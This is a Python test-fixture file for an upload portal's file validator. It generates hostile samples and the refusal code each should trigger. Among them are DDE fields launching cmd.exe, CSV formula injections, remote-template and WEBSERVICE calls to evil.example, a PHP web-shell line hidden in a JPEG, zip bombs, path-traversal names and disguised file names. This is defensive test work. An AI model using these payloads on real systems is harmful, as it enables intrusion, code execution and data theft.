"""What attackers send, made on the spot: name → (the file's name, its content, the code of the refusal)."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from portal.files.containers import MOST_MEMBERS
from tests.files import samples
from tests.files.quine import quine
from tests.files.samples import overlapping_bomb, quoted_overlap, with_link

MACRO_TYPE = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
WORDS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
# Written in two parts, so that no scanner takes this file for the virus it names.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-" + rb"ANTIVIRUS-TEST-FILE!$H+H*"
Content = bytes | Callable[[], bytes]


def part(name: str, content: bytes, kind: str = "docx") -> bytes:
    """An Office document with one more part."""
    members = {"[Content_Types].xml": samples.content_types(samples.MAIN[kind]), "part0.xml": b"<x/>"}
    return samples.zipped(members | {name: content})


def relation(kind: str, target: str, *, place: str = "word/_rels/document.xml.rels", mode: str = "External") -> bytes:
    return part(
        place,
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships><Relationship Id="a" Type="{RELATIONS}{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'.encode(),
    )


def field(*runs: str) -> bytes:
    """A Word field whose instruction is spread over the runs."""
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return part("word/document.xml", f"<w:document {WORDS}>{begin}{said}{end}</w:document>".encode())


def object_stream(body: bytes, *, declared: bytes = b"/Type /ObjStm ") -> bytes:
    packed = zlib.compress(b"4 0 5 20 " + body)
    length = str(len(packed)).encode()
    return samples.pdf(
        b"3 0 obj<<" + declared + b"/Filter /FlateDecode /N 2 /First 9 /Length " + length + b">>stream\n"
        + packed + b"\nendstream endobj\n"
    )  # fmt: skip


def nested(depth: int) -> bytes:
    """A document in a document in a document …: what a zip that contains itself unpacks to."""
    content = b"x"
    for _ in range(depth):
        content = samples.office("docx", word__embeddings__inner=content)
    return content


def bomb() -> bytes:
    return samples.office("xlsx", xl__worksheets__sheet1=b" " * 100_000_000)


def nested_bomb() -> bytes:
    return samples.office("docx", a=samples.zipped({"b": b" " * 100_000_000}))


def many_small_bombs() -> bytes:
    """Each member stays below everything that is asked of one."""
    return samples.office("xlsx", **{f"xl__worksheets__sheet{i}": b"<c/>" * 250_000 for i in range(60)})


def before_the_file() -> bytes:
    """An end record that says the directory lies further on: the members' places become negative."""
    archive = bytearray(samples.office("docx"))
    place = archive.rindex(b"PK\x05\x06") + 16
    archive[place : place + 4] = struct.pack("<I", struct.unpack_from("<I", archive, place)[0] + 50)
    return bytes(archive)


def end_of_64_bits() -> bytes:
    """Readers that believe it take the directory from where it says, and see another file than the others."""
    archive = samples.office("docx")
    end = archive.rindex(b"PK\x05\x06")
    return archive[:end] + b"PK\x06\x07" + b"\0" * 16 + archive[end:]


def huge_directory() -> bytes:
    out = io.BytesIO(samples.office("docx"))
    with zipfile.ZipFile(out, "a") as archive:
        for number in range(20):
            member = zipfile.ZipInfo(str(number))
            member.comment = b"x" * 60_000
            archive.writestr(member, b"")
    return out.getvalue()


def jpg_with(content: bytes, *, behind: bool = False) -> bytes:
    picture = samples.jpg()
    if behind:
        return picture + content
    return picture[:2] + b"\xff\xfe" + struct.pack(">H", len(content) + 2) + content + picture[2:]


HOSTILE: dict[str, tuple[str, Content, str]] = {
    "empty": ("a.pdf", b"", "file_empty"),
    "program": ("a.pdf", b"MZ\x90\0" + b"\0" * 500, "file_kind"),
    "program as csv": ("a.csv", b"MZ\x90\0" + b"\0" * 500, "file_kind"),
    "page as csv": ("a.csv", b"\xef\xbb\xbf <html><script>", "file_kind"),
    "picture with script": ("a.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "file_kind"),
    "binary as csv": ("a.csv", bytes(range(1, 256)) * 9, "file_encoding"),
    "null bytes in csv": ("a.csv", b"a,b\n1,\0\n", "file_encoding"),
    "pdf behind something": ("a.pdf", b"GIF89a" + samples.pdf(), "file_kind"),
    "pdf cut off": ("a.pdf", samples.pdf()[:-10] + b" " * 3000, "file_damaged"),
    "png cut off": ("a.png", samples.png()[:-4], "file_damaged"),
    "png with a tail": ("a.png", samples.png() + samples.office("docx"), "file_damaged"),
    "png without header": ("a.png", b"\x89PNG\r\n\x1a\n" + samples.png()[-12:], "file_damaged"),
    "png of a square kilometre": ("a.png", samples.png(60_000, 60_000), "image_too_large"),
    "png of nothing": ("a.png", samples.png(0, 5), "image_too_large"),
    "jpg of a square kilometre": ("a.jpg", samples.jpg(60_000, 60_000), "image_too_large"),
    "jpg without frame": ("a.jpg", b"\xff\xd8\xff\xe0\0\x10" + b"\0" * 20, "file_damaged"),
    "office with password": ("a.xlsx", samples.ole("EncryptedPackage"), "file_locked"),
    "old office": ("a.hwp", samples.ole(), "file_kind"),
    "old office with new name": ("a.docx", samples.ole(), "file_kind"),
    "plain zip": ("a.zip", samples.zipped({"a.txt": b"x"}), "file_kind"),
    "zip as docx": ("a.docx", samples.zipped({"a.txt": b"x"}), "file_kind"),
    "office of unknown kind": (
        "a.docx",
        samples.zipped({"[Content_Types].xml": samples.content_types("x/y")}),
        "file_kind",
    ),
    "office of two kinds": (
        "a.docx",
        samples.zipped({"[Content_Types].xml": samples.content_types(*samples.MAIN.values())}),
        "file_kind",
    ),
    "macro by type": (
        "a.xlsx",
        samples.zipped({"[Content_Types].xml": samples.content_types(samples.MAIN["xlsx"], MACRO_TYPE)}),
        "file_macro",
    ),
    "macro by member": ("a.docx", samples.office("docx", word__vbaProject=b"x"), "file_macro"),
    "macro sheet of Excel 4": ("a.xlsx", samples.office("xlsx", xl__macrosheets__sheet1=b"<x/>"), "file_macro"),
    "macro in a nested workbook": (
        "a.docx",
        samples.office("docx", word__embeddings__a=samples.office("xlsx", vbaProject=b"x")),
        "file_macro",
    ),
    "entities in the content types": (
        "a.docx",
        samples.zipped({"[Content_Types].xml": b"<!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;</x>"}),
        "file_damaged",
    ),
    "huge content types": (
        "a.docx",
        samples.zipped({"[Content_Types].xml": b"<x>" + b" " * 2_000_000}),
        "file_damaged",
    ),
    "broken content types": ("a.docx", samples.zipped({"[Content_Types].xml": b"<x>"}), "file_damaged"),
    "hwpx with password": (
        "a.hwpx",
        samples.hwpx(**{"META-INF__manifest.xml": b"<m:encryption-data/>"}),
        "file_locked",
    ),
    "hwpx without document": ("a.hwpx", samples.zipped({"mimetype": b"application/hwp+zip"}), "file_kind"),
    "path upwards": ("a.docx", samples.office("docx", **{"..__evil": b"x"}), "file_unsafe"),
    "path from the root": ("a.docx", samples.office("docx", __etc__passwd=b"x"), "file_unsafe"),
    "path of Windows": ("a.docx", samples.office("docx", **{"C:__x": b"x"}), "file_unsafe"),
    "path with backslash": ("a.docx", samples.office("docx", **{"x\\..\\y": b"x"}), "file_unsafe"),
    "same name twice": ("a.docx", samples.office("docx", PART0_xml=b"", part0_XML=b""), "file_damaged"),
    "zip cut off": ("a.docx", samples.office("docx")[:-30], "file_damaged"),
    "zip with a tail": ("a.docx", samples.office("docx") + b"tail", "file_damaged"),
    "member with password": (
        "a.docx",
        samples.with_directory_changed(samples.office("docx"), 8, b"\1\0"),
        "file_locked",
    ),
    "unknown packing": (
        "a.docx",
        samples.with_directory_changed(samples.office("docx"), 10, b"\x0c\0"),
        "file_damaged",
    ),
    "size that isn't true": (
        "a.docx",
        samples.with_directory_changed(samples.office("docx"), 24, struct.pack("<I", 3)),
        "file_damaged",
    ),
    "checksum that isn't true": (
        "a.docx",
        samples.with_directory_changed(samples.office("docx"), 16, b"\0\0\0\0"),
        "file_damaged",
    ),
    "two names for one member": (
        "a.docx",
        samples.with_directory_changed(samples.office("docx"), 46, b"k"),
        "file_damaged",
    ),
    "nested too deep": (
        "a.docx",
        samples.office("docx", a=samples.zipped({"b": samples.zipped({"c": b"x"})})),
        "file_bomb",
    ),
    "too many members": ("a.docx", samples.zipped({str(i): b"" for i in range(MOST_MEMBERS + 1)}), "file_damaged"),
    # --- containers
    "symbolic link": ("a.docx", with_link(), "file_unsafe"),
    "member before the file": ("a.docx", before_the_file(), "file_damaged"),
    "end record of 64 bits": ("a.docx", end_of_64_bits(), "file_damaged"),
    "huge directory": ("a.docx", huge_directory(), "file_damaged"),
    "bomb": ("a.xlsx", bomb, "file_bomb"),
    "nested bomb": ("a.docx", nested_bomb, "file_bomb"),
    "many small bombs": ("a.xlsx", many_small_bombs, "file_bomb"),
    "one member under a hundred names": ("a.docx", overlapping_bomb, "file_damaged"),
    "members within each other": ("a.docx", quoted_overlap, "file_damaged"),
    "document in a document in a document": ("a.docx", nested(4), "file_bomb"),
    "zip that contains itself": ("a.docx", quine(), "file_kind"),
    "document with a zip that contains itself": ("a.docx", part("word/embeddings/a", quine()), "file_bomb"),
    "plain zip inside": ("a.docx", part("word/media/a", samples.zipped({"a.txt": b"x"})), "file_kind"),
    "program inside": ("a.docx", part("word/media/image1.png", b"MZ" + b"\0" * 500), "file_embedded"),
    "program by name inside": ("a.pptx", part("ppt/media/a.vbs", b"x", "pptx"), "file_embedded"),
    "shortcut inside": ("a.docx", part("word/media/a", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 50), "file_embedded"),
    "page inside": ("a.docx", part("word/afchunk.htm", b"<html>"), "file_embedded"),
    # --- macros and objects
    "macro template": (
        "a.docx",
        samples.zipped({"[Content_Types].xml": samples.content_types(MACRO_TYPE.replace("sheet", "template"))}),
        "file_macro",
    ),
    "macro under another name": ("a.docx", part("word/media/x.bin", samples.ole("VBA")), "file_embedded"),
    "object of an old program": ("a.docx", part("word/embeddings/oleObject1.bin", samples.ole()), "file_embedded"),
    "control": ("a.docx", part("word/activeX/activeX1.xml", b"<ax/>"), "file_embedded"),
    "script of Hangul": (
        "a.hwpx",
        samples.hwpx(Scripts__sourceScripts="function OnDocument_Open() { Run('calc'); }".encode("utf-16-le")),
        "file_macro",
    ),
    "script of Hangul by its file's name": (
        "a.hwpx",
        samples.hwpx(**{"Scripts__headerScripts.js": b"var shell = new ActiveXObject('WScript.Shell');"}),
        "file_macro",
    ),
    "object of Hangul": ("a.hwpx", samples.hwpx(BinData__ole1=samples.ole()), "file_embedded"),
    "picture of Hangul from outside": (
        "a.hwpx",
        samples.hwpx(Contents__more_hpf=b'<opf:item href="//evil/a.png" isEmbeded="0"/>'),
        "file_external",
    ),
    # --- what documents fetch
    "template from outside": ("a.docx", relation("attachedTemplate", "https://evil.example/a.dotm"), "file_external"),
    "object from outside": ("a.docx", relation("oleObject", "mhtml:https://evil.example/a!x"), "file_external"),
    "picture from outside": ("a.docx", relation("image", "file://evil/share/a.png"), "file_external"),
    "frame from outside": ("a.docx", relation("frame", "https://evil.example/"), "file_external"),
    "part of another document": ("a.docx", relation("subDocument", "https://evil.example/"), "file_external"),
    "imported page": ("a.docx", relation("aFChunk", "/word/a.mht", mode="Internal"), "file_external"),
    "link that runs": ("a.docx", relation("hyperlink", "javascript:alert(1)"), "file_external"),
    "link to a share": ("a.docx", relation("hyperlink", "\\\\evil\\share"), "file_external"),
    "link to a protocol": ("a.docx", relation("hyperlink", "ms-msdt:/id PCWDiagnostic"), "file_external"),
    "workbook from outside": ("a.xlsx", part("xl/externalLinks/externalLink1.xml", b"<x/>", "xlsx"), "file_external"),
    "connection": ("a.xlsx", part("xl/connections.xml", b"<connections/>", "xlsx"), "file_external"),
    "DDE of a workbook": ("a.xlsx", part("xl/a.xml", b"<ddeLink ddeService='cmd'/>", "xlsx"), "file_external"),
    "DDE of a document": ("a.docx", field("DDEAUTO c:\\windows\\cmd.exe"), "file_external"),
    "DDE in pieces": ("a.docx", field(" D", "DE", "AUTO", " cmd"), "file_external"),
    "DDE in letters": ("a.docx", field("&#68;&#68;E cmd"), "file_external"),
    "simple field": (
        "a.docx",
        part("word/header1.xml", f"<w:hdr {WORDS}><w:fldSimple w:instr='DDE x y'/></w:hdr>".encode()),
        "file_external",
    ),
    "field that computes its name": (
        "a.docx",
        part(
            "word/document.xml",
            f"<w:document {WORDS}><w:fldChar w:fldCharType='begin'/><w:fldChar w:fldCharType='begin'/>"
            "<w:instrText>QUOTE 68 68 69</w:instrText></w:document>".encode(),
        ),
        "file_external",
    ),
    "picture field": ("a.docx", field('INCLUDEPICTURE "https://evil.example/a.png"'), "file_external"),
    "entities in a part": ("a.xlsx", part("xl/a.xml", b"<!DOCTYPE x [<!ENTITY a 'a'>]><x/>", "xlsx"), "file_unsafe"),
    "part in another encoding": (
        "a.docx",
        part("word/document.xml", "<x>DDE</x>".encode("utf-16")),
        "file_unsafe",
    ),
    "part in a declared encoding": (
        "a.docx",
        part("word/a.xml", b"<?xml version='1.0' encoding='UTF-7'?><x/>"),
        "file_unsafe",
    ),
    "relations that are no XML": ("a.docx", part("word/_rels/a.rels", b"<Relationships>"), "file_unsafe"),
    # --- PDF
    "pdf with script": ("a.pdf", samples.pdf(b"1 0 obj<</S /JavaScript /JS (app.alert(1))>>endobj\n"), "file_active"),
    "pdf with a hidden script": ("a.pdf", samples.pdf(b"1 0 obj<</S /J#61va#53cript /JS (x)>>endobj\n"), "file_active"),
    "pdf with a packed script": ("a.pdf", object_stream(b"<</S/JavaScript/JS(x)>>"), "file_active"),
    "pdf with a packed script, undeclared": ("a.pdf", object_stream(b"<</S/JavaScript>>", declared=b""), "file_active"),
    "pdf with objects packed otherwise": (
        "a.pdf",
        samples.pdf(b"1 0 obj<</Type /ObjStm /Filter /LZWDecode>>stream\nabc\nendstream endobj\n"),
        "file_active",
    ),
    "pdf with packed bomb": ("a.pdf", lambda: object_stream(b" " * 40_000_000), "file_bomb"),
    "pdf that starts a program": ("a.pdf", samples.pdf(b"1 0 obj<</S /Launch /F (cmd.exe)>>endobj\n"), "file_active"),
    "pdf that sends forms": ("a.pdf", samples.pdf(b"1 0 obj<</S /SubmitForm>>endobj\n"), "file_active"),
    "pdf that opens a share": ("a.pdf", samples.pdf(b"1 0 obj<</S /GoToR /F (\\\\evil)>>endobj\n"), "file_active"),
    "pdf with a dynamic form": ("a.pdf", samples.pdf(b"1 0 obj<</XFA 5 0 R>>endobj\n"), "file_active"),
    "pdf with film": ("a.pdf", samples.pdf(b"1 0 obj<</Subtype /RichMedia>>endobj\n"), "file_active"),
    "pdf with a file": ("a.pdf", samples.pdf(b"1 0 obj<</Names <</EmbeddedFiles 3 0 R>>>>endobj\n"), "file_embedded"),
    "pdf with a file on a page": ("a.pdf", samples.pdf(b"1 0 obj<</EF <</F 3 0 R>>>>endobj\n"), "file_embedded"),
    "pdf with a file behind a remark": (
        "a.pdf",
        samples.pdf(b"1 0 obj<</EF%x\n<</F 3 0 R>>>>endobj\n"),
        "file_embedded",
    ),
    "pdf with a file far away": (
        "a.pdf",
        samples.pdf(b"1 0 obj<</EF" + b" " * 500 + b"<</F 3 0 R>>>>endobj\n"),
        "file_embedded",
    ),
    "pdf with a script over a seam": (
        "a.pdf",
        lambda: samples.pdf(b" " * (1024 * 1024 - 23) + b"<</S /JavaScript>>"),
        "file_active",
    ),
    "pdf with password": ("a.pdf", samples.pdf(b"trailer<</Encrypt 5 0 R>>\n"), "file_locked"),
    "pdf that is a zip": ("a.pdf", samples.pdf() + samples.zipped({"a": b"x"}) + b"%%EOF", "file_disguised"),
    "pdf that is a page": ("a.pdf", samples.pdf(b"<script>alert(1)</script>"), "file_disguised"),
    # --- pictures
    "jpg that is a zip": ("a.jpg", jpg_with(samples.zipped({"a": b"x"}), behind=True), "file_disguised"),
    "jpg that is a pdf": ("a.jpg", jpg_with(samples.pdf()), "file_disguised"),
    "jpg that is a page": ("a.jpg", jpg_with(b"<SCRIPT>alert(1)</SCRIPT>"), "file_disguised"),
    "jpg that is a program of PHP": ("a.jpg", jpg_with(b"<?php system($_GET[0]); ?>"), "file_disguised"),
    "vector picture": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>", "file_kind"),
    "page": ("a.html", b"<!DOCTYPE html><script>alert(1)</script>", "file_kind"),
    "gif as png": ("a.png", b"GIF89a" + b"\0" * 50, "file_kind"),
    # --- text
    "csv that starts a program": ("a.csv", "기업명,비고\n가온,=cmd|' /C calc'!A0\n".encode(), "file_external"),
    "csv that starts a program later": ("a.csv", b"a,b\n1,\"  @SUM(1)+cmd|'/C calc'!A0\"\n", "file_external"),
    "csv that calls a program by its name": ("a.csv", b"a,b\n1,+cmd|calc!A0\n", "file_external"),
    "csv that asks an address": ("a.csv", b'a,b\n1,"=WEBSERVICE(""https://evil.example"")"\n', "file_external"),
    "csv with DDE in words": ("a.csv", b'a,b\n1,=dde("cmd";"/C calc";"x")\n', "file_external"),
    "csv of one line": ("a.csv", lambda: b"," * 10_000_000, "file_bomb"),
    "csv with an endless line": ("a.csv", lambda: b"a,b\n" * 9 + b"x" * 3_000_000 + b"\n1,2\n", "file_bomb"),
    # --- viruses, names
    "test virus": ("a.csv", EICAR, "file_virus"),
    "test virus as pdf": ("a.pdf", EICAR, "file_kind"),
    "test virus zipped": ("a.zip", samples.zipped({"eicar.com": EICAR}), "file_kind"),
    "test virus in a document": ("a.docx", part("word/media/a.bin", EICAR), "file_virus"),
    "test virus in a document in a document": (
        "a.docx",
        samples.office("docx", a=part("word/a.bin", EICAR)),
        "file_virus",
    ),
    "test virus in a pdf": ("a.pdf", samples.pdf(EICAR), "file_virus"),
    "double ending": ("사업계획서.exe.pdf", samples.pdf(), "file_name"),
    "double ending, the other way": ("사업계획서.pdf.exe", samples.pdf(), "file_disguised"),
    "letters from right to left": ("계획\u202efdp.exe.pdf", samples.pdf(), "file_name"),
    "null byte in the name": ("a.pdf\0.exe", samples.pdf(), "file_name"),
    "device as name": ("con.pdf", samples.pdf(), "file_name"),
    "name that ends in a dot": ("a.pdf.", samples.pdf(), "file_name"),
    "second stream of a file": ("a.pdf:hidden.exe", samples.pdf(), "file_name"),
}
